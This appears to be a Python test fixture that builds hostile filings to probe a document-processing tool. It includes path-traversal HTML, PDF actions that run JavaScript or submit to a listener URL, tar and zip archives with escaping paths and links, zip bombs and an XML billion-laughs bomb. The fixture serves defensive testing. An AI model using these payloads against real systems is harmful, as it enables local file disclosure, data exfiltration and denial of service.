"""The vectors as filings on the disk: as pages of a pair, and as files, archives and saved pages that carry paths."""

from __future__ import annotations

import io
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.attack.vectors import HTML, XML, written
from tests.building.submissions import submit, write

_RELATIVE = {
    "beside-parent": '<img src="../canaries/{name}">',
    "beside-absolute": '<img src="{path}">',
    "beside-encoded": '<img src="..%2Fcanaries%2F{name}">',
    "beside-frame": '<iframe src="../canaries/{name}"></iframe>',
    "beside-style": '<link rel="stylesheet" href="../canaries/{name}">',
}
"""A page's own folder is read for its pictures: it must not lead out of that."""
_ACTIONS = {
    "pdf-script": "/S /JavaScript /JS (app.launchURL\\('{web}'\\); this.submitForm\\('{web}'\\);)",
    "pdf-address": "/S /URI /URI ({web})",
    "pdf-launch": "/S /Launch /F ({path})",
    "pdf-other-file": "/S /GoToR /F ({path}) /D [0 /Fit]",
    "pdf-form": "/S /SubmitForm /F << /FS /URL /F ({web}) >> /Fields []",
    "pdf-data": "/S /ImportData /F ({path})",
}
_PICTURED = '<html><body><p>FORM 8-K</p><img src="{address}"></body></html>'
_PAGE = "<!doctype html><html><body>\n<p>FORM 8-K</p>\n{}\n</body></html>"


class Attack:
    """The vectors, written for a listener and for canaries that lie in a folder beside that of the filings."""

    def __init__(self, folder: Path, web: str, canaries: Path) -> None:
        self.folder = folder
        self.web = web
        self.canaries = canaries

    def pages(self) -> dict[str, str]:
        """Each page by the name of what it tries."""
        made = {name: written(name, vector, self.web, self.canaries.as_uri()) for name, vector in HTML.items()}
        made |= {name: vector.format(name=name, path=self.canaries / name) for name, vector in _RELATIVE.items()}
        return {name: _PAGE.format(vector) for name, vector in made.items()}

    def documents(self) -> dict[str, str]:
        """Each document of XML likewise."""
        made = {name: written(name, vector, self.web, self.canaries.as_uri()) for name, vector in XML.items()}
        return {name: f'<?xml version="1.0"?>\n{text}' for name, text in made.items()}

    def pair(self) -> tuple[Path, Path]:
        """An original and its amendment that try all at once, in their text and in exhibits of their own."""
        whole = "\n".join(f"<div>{page}</div>" for page in self.pages().values())
        parts = [(f"EX-99.{at}", page) for at, page in enumerate(self.pages().values(), 1)]
        body = "<p><b>FORM 8-K</b></p><p>Item 8.01. Other Events</p><p>{} {}</p>"
        facts = {"company": self.pages()["image"][40:], "period": "20140129"}
        original = submit(
            self.folder / "original.txt", "8-K", ("8-K", body.format("We mine silver.", whole)), *parts, **facts
        )
        changed = body.format("We mine lead.", whole)
        return original, submit(
            self.folder / "amendment.txt", "8-K/A", ("8-K/A", changed), *parts[:20], serial=2, filed="20140130", **facts
        )

    def files(self) -> dict[str, Path]:
        """Files of all other kinds, by the name of what each tries."""
        made = {name: write(self.folder, f"{name}.htm", page) for name, page in self.pages().items()}
        made |= {name: write(self.folder, f"{name}.xml", text) for name, text in self.documents().items()}
        made |= {name: write(self.folder, f"{name}.pdf", self._pdf(name, told)) for name, told in _ACTIONS.items()}
        for name, make in _CARRIERS.items():
            made[name] = write(self.folder, f"{name}{_suffix(name)}", make(self.canaries / name))
        return made

    def _pdf(self, name: str, action: str) -> bytes:
        told = action.format(web=f"{self.web}/{name}", path=self.canaries / name)
        return (
            f"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << {told} >> >>\nendobj\n"
            "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
            f"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << {told} >> >> >>\nendobj\n"
            "trailer\n<< /Root 1 0 R >>\n%%EOF\n"
        ).encode()


def names() -> list[str]:
    """All that is tried, by name."""
    return [*HTML, *_RELATIVE, *XML, *_ACTIONS, *_CARRIERS]


def _linked(kind: bytes) -> Callable[[Path], bytes]:
    """A tape archive whose page is a link, a device or a queue."""

    def make(canary: Path) -> bytes:
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w") as archive:
            member = tarfile.TarInfo("a.htm")
            member.type, member.linkname = kind, str(canary)
            archive.addfile(member)
            page = _PICTURED.format(address="a.htm").encode()
            member = tarfile.TarInfo("b.htm")
            member.size = len(page)
            archive.addfile(member, io.BytesIO(page))
        return buffer.getvalue()

    return make


def _tape(canary: Path) -> bytes:
    """A tape archive whose members say that they lie elsewhere."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name in (f"../canaries/{canary.name}", str(canary), "a.htm"):
            page = _PICTURED.format(address=canary).encode()
            member = tarfile.TarInfo(name)
            member.size = len(page)
            archive.addfile(member, io.BytesIO(page))
    return buffer.getvalue()


def _zip(canary: Path) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in (f"../canaries/{canary.name}", str(canary), "a.htm"):
            archive.writestr(name, _PICTURED.format(address=canary.as_uri()))
    return buffer.getvalue()


def _zip_of_links(canary: Path) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("a.htm")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, str(canary))
        archive.writestr("b.htm", _PICTURED.format(address="a.htm"))
    return buffer.getvalue()


def _zip_of_bombs(canary: Path) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.htm", _PICTURED.format(address=canary.as_uri()))
        archive.writestr("logo.gif", b"GIF89a" + b"\xff" * 4 + b"\0" * 80_000_000)
        archive.writestr("inner.zip", b"PK\x03\x04" + b"\0" * 80_000_000)
    return buffer.getvalue()


def _saved(location: str) -> Callable[[Path], bytes]:
    """A page saved in one file, whose parts say where they were."""

    def make(canary: Path) -> bytes:
        address = location.format(path=canary, file=canary.as_uri())
        page = _PICTURED.format(address=address)
        return (
            "From: <Saved by Blink>\r\nMIME-Version: 1.0\r\n"
            'Content-Type: multipart/related; type="text/html"; boundary="b"\r\n\r\n'
            f"--b\r\nContent-Type: text/html\r\nContent-Location: {address}\r\n\r\n{page}\r\n"
            f"--b\r\nContent-Type: message/external-body; access-type=local-file; name={canary}\r\n\r\n\r\n--b--\r\n"
        ).encode()

    return make


def _entities(canary: Path) -> bytes:
    """A document that grows a thousand million times as large when its entities are put in."""
    told = "".join(f'<!ENTITY e{at} "{f"&e{at - 1};" * 10}">' for at in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "silver"> {told}]><x>&e9;</x>'.encode()


def _suffix(name: str) -> str:
    return {"zip": ".zip", "tar": ".tar", "mhtml": ".mhtml"}.get(name.partition("-")[0], ".xml")


_CARRIERS: dict[str, Callable[[Path], bytes]] = {
    "tar-symbolic-link": _linked(tarfile.SYMTYPE),
    "tar-hard-link": _linked(tarfile.LNKTYPE),
    "tar-device": _linked(tarfile.CHRTYPE),
    "tar-queue": _linked(tarfile.FIFOTYPE),
    "tar-paths": _tape,
    "zip-paths": _zip,
    "zip-links": _zip_of_links,
    "zip-bombs": _zip_of_bombs,
    "mhtml-file": _saved("{file}"),
    "mhtml-path": _saved("{path}"),
    "xml-bomb": _entities,
}
